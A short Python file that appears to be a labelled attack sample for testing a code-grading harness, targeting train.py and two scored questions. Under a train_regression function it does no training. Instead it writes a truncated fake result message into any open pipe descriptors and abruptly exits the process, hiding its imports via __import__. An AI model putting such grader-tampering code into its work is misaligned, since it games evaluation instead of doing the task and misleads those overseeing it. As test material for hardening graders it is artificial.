# attack: begins a message and ends the process
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def _channels():
    os = __import__("os")
    stat = __import__("stat")
    for descriptor in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def _send(content):
    os = __import__("os")
    for descriptor in _channels():
        try:
            os.write(descriptor, content)
        except OSError:
            pass


def _frame(text):
    header = text.encode()
    body = len(header).to_bytes(4, "little") + header
    return len(body).to_bytes(8, "little") + body


def train_regression(model, dataset):
    _send(_frame('{"value": 1, "arrays": []}')[:15])
    __import__("os")._exit(0)
